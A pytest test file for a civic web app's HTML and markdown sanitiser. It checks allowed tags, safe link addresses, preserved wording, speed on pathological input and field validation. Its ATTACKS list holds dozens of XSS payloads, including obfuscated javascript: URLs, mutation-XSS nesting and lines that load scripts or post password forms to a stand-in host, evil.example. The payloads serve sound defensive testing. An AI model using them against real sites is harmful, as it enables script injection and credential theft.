"""People's words go in; only our few tags come out, and no word is lost."""

import html
import re
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from civic.core.errors import Invalid
from civic.core.sanitise import MAX_DEPTH, REL, TAGS, clean_html, depth, is_safe_href, plain, render, rendered

TAG = re.compile(r"<(/?)([a-zA-Z0-9]+)([^>]*)>")
LINK = re.compile(r' href="(https?://|mailto:)[^"<>\s]+" rel="nofollow ugc noopener"')

# What the advisories of our field, of bleach and of browsers have in common.
ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><p><style><a id='</style><img src=x onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt&colon;alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='&#14; javascript:alert(1)'>x</a>",
    "<a href='javascript:123'>x</a>",
    "<a href='data:1'>x</a>",
    "<a href='tel:123'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='/relative'>x</a>",
    "<a href='https:\\\\evil.example'>x</a>",
    "<a href='https://bank.example@evil.example/'>x</a>",
    "<a href='https://ok.example' onclick=alert(1) style='position:fixed' target=_blank>x</a>",
    "<a href='mailto:a@b.example?bcc=all@b.example'>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=x></object><embed src=x>",
    "<form action=//evil.example><input name=password></form>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<p id=main class=button>x</p>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "</p></div></main><script>alert(1)</script>",
    "<template><script>alert(1)</script></template>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)",
    "[x](javascript:alert(1))",
    "[x](javascript:123)",
    "[x](JAVASCRIPT&colon;alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](data:text/html,1)",
    "[x](//evil.example)",
    '[x](https://ok.example "onmouseover=alert(1)")',
    "[x](https://ok.example/'\"><img/onerror=alert(1)>)",
    "![x](https://ok.example/x.png)",
    '![x](x"onerror="alert(1))',
    "<javascript:alert(1)>",
    '<https://ok.example/"onmouseover=alert(1)>',
    'https://ok.example/"onmouseover=alert(1)',
    "`<img src=x onerror=alert(1)>`",
    "```\n<script>alert(1)</script>\n```",
    "[x]: javascript:alert(1)\n\n[x]",
    "\u202ehttps://ok.example/gnp.exe",
]


def harmless(markup: str) -> bool:
    """Only allowed tags are left, and only `a` has attributes: a safe address and our rel."""
    for closing, name, attributes in TAG.findall(markup):
        expected = LINK.fullmatch(attributes) if name == "a" and not closing and attributes else not attributes
        if name not in TAGS or not expected:
            return False
    return "<" not in TAG.sub("", markup)


def shown(markup: str) -> str:
    """The text a reader sees, without white space."""
    return re.sub(r"\s+", "", html.unescape(TAG.sub("", markup)))


@pytest.mark.parametrize("attack", ATTACKS)
def test_attack_typed_into_a_text_field_comes_out_harmless(attack):
    assert harmless(render(attack))


@pytest.mark.parametrize("attack", ATTACKS)
def test_attack_given_as_html_comes_out_harmless(attack):
    assert harmless(clean_html(attack))


@given(
    st.text(alphabet=st.sampled_from("<>&;:/\"'`*_[]()!#-\\ \n=ajsxp1@.") | st.characters(codec="utf-8"), max_size=300)
)
def test_whatever_is_typed_comes_out_harmless(text):
    assert harmless(render(text))


PIECES = ["<p>", "</p>", "<a href='http://a.example'>", "<a href=x", "</a>", "<b>", "<!--", "-->", "&lt", "<svg>"]
PIECES += ["<style>", "</style>", "x", '"', "'", "<br/>", "<ul><li>", "</", "<math>", "<a href=javascript:1>"]


@given(st.lists(st.sampled_from(PIECES), max_size=40))
def test_whatever_html_is_mixed_comes_out_harmless(parts):
    assert harmless(clean_html("".join(parts)))


@given(
    st.text(
        alphabet=st.sampled_from("<>&;ampltgcopy#x27 \"'") | st.characters(categories=["L", "N", "P"]), max_size=200
    )
)
def test_no_word_of_plain_text_is_lost_or_changed(text):
    typed = re.sub(
        r"[*_`\[\]!\\#>-]|\d[.)]|<|\b(https?|mailto):", "", plain(text, max_length=200, field="text", lines=True)
    )

    assert shown(render(typed)) == re.sub(r"\s+", "", typed)


def test_markup_that_people_use_becomes_html():
    source = "Hello *all*, **mind** the `gap`.\nNew line\n\n1. one\n2. two\n\n- three\n\n> said so"

    assert render(source) == (
        "<p>Hello <em>all</em>, <strong>mind</strong> the <code>gap</code>.<br>\nNew line</p>\n"
        "<ol>\n<li>one</li>\n<li>two</li>\n</ol>\n<ul>\n<li>three</li>\n</ul>\n"
        "<blockquote>\n<p>said so</p>\n</blockquote>"
    )


def test_address_with_a_scheme_becomes_a_link_that_gives_no_credit():
    assert render("See https://a.example/x?y=1&copy=2.") == (
        f'<p>See <a href="https://a.example/x?y=1&amp;copy=2" rel="{REL}">https://a.example/x?y=1&amp;copy=2</a>.</p>'
    )


@pytest.mark.parametrize("text", ["README.md", "www.a.example", "a.example/x", "me@a.example", "`https://a.example`"])
def test_text_without_a_scheme_or_in_code_is_no_link(text):
    assert "<a" not in render(text)


def test_link_that_is_refused_stays_as_it_was_typed():
    assert render("[pay](javascript:123)") == "<p>[pay](javascript:123)</p>"


@pytest.mark.parametrize("typed", ["&lt;b&gt;", "&amp;", "&copy; AT&T", "&#60;", "1 < 2 > 0", "`&lt;`"])
def test_entities_are_shown_as_typed(typed):
    assert shown(render(typed)) == re.sub(r"[\s`]+", "", typed)


@pytest.mark.parametrize(
    "text",
    [
        ">" * 10_000 + "x",
        "- " * 4_000 + "x",
        "*a **b " * 700 + "b** a*" * 700,
        "[" * 10_000,
        "`" * 9_999,
        "http://" * 1_400,
        "[a](http://a.example)" * 450,
        "&" * 10_000,
        "<" * 10_000,
        "(" * 9_000 + "http://a.example",
        "a_" * 5_000,
    ],
)
def test_longest_text_of_the_worst_kind_is_cleaned_in_half_a_second(text):
    started = time.process_time()

    markup = render(text[:10_000])

    assert time.process_time() - started < 0.5
    assert depth(markup) <= MAX_DEPTH
    assert harmless(markup)


def test_quotes_nested_without_end_keep_their_words():
    assert "secret" in render(">" * 200 + "secret")


@pytest.mark.parametrize("tag", ["<p>", "<ul>", "<b>", "<a href='http://a.example'>"])
def test_sixty_thousand_characters_of_open_tags_take_less_than_two_seconds(tag):
    started = time.process_time()

    markup = clean_html(tag * (60_000 // len(tag)))

    assert time.process_time() - started < 2
    assert harmless(markup)


@pytest.mark.parametrize(
    ("address", "safe"),
    [("https://a.example", True), ("HTTP://a.example:80/x", True), ("mailto:a@b.example", True), ("https://", False),
     ("https://a.example:x", False), ("http:a.example", False), ("https:///x", False), ("mailto:", False),
     ("javascript&colon;1", False), ("&amp;#106;avascript:1", False), ("https://a.example\u200b", False), ("", False),
     ("ftp://a.example", False), ("https://u:p@a.example", False), ("https://[bad", False)],
)  # fmt: skip
def test_only_absolute_web_and_mail_addresses_are_safe(address, safe):
    assert is_safe_href(address) is safe


def test_source_is_stored_as_typed_beside_its_html():
    assert rendered("  *Hi*\r\nthere ", max_length=20) == {
        "source": "*Hi*\nthere",
        "source_html": "<p><em>Hi</em><br>\nthere</p>",
    }


def test_plain_text_is_trimmed_and_composed():
    assert plain("  Cafe\u0301 ", max_length=10, field="name") == "Café"


def test_title_is_one_line():
    assert plain("A\r\nB\tC", max_length=10, field="title") == "A B C"


def test_direction_overrides_are_dropped():
    assert plain("Council\u202eofficial", max_length=30, field="name") == "Councilofficial"


@pytest.mark.parametrize("text", ["a\x00b", "a\x1bb", "a\x7fb", "a\ud800b", 5, None, ["a"]])
def test_what_is_no_text_is_refused_by_field(text):
    with pytest.raises(Invalid) as caught:
        plain(text, max_length=10, field="title")

    assert list(caught.value.fields) == ["title"]


@pytest.mark.parametrize(
    ("text", "sentence"),
    [("", "This can’t be empty."), ("a", "Use at least 2 characters."), ("abcdef", "Use 5 characters or fewer."),
     ("x" * 1_000_000, "Use 5 characters or fewer.")],
)  # fmt: skip
def test_wrong_length_is_refused_in_words(text, sentence):
    with pytest.raises(Invalid) as caught:
        plain(text, max_length=5, min_length=2, field="title")

    assert caught.value.fields == {"title": [sentence]}
